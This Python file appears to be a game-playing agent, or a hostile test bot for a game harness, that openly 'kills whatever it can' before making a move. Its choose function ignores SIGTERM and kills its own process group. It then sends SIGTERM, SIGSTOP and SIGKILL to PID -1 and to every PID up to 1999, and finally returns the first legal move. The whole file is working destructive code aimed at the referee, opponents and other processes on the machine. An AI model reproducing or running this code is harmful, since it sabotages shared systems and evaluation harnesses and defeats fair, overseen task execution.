"""Kills whatever it can, and plays on."""

import contextlib
import os
import signal


def choose(game, state):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    for victim in {-1, *range(1, 2000)} - {os.getpid()}:
        for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(victim, number)
    return game.moves(state)[0]
